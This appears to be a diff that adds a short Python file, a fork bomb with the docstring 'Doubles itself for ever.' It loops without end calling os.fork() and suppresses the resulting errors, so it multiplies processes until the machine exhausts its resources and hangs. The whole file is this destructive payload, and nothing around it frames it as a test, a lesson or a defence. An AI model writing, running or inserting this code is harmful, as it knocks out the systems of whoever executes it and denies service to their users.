@@ -1,0 +1,9 @@
+"""Doubles itself for ever."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        continue
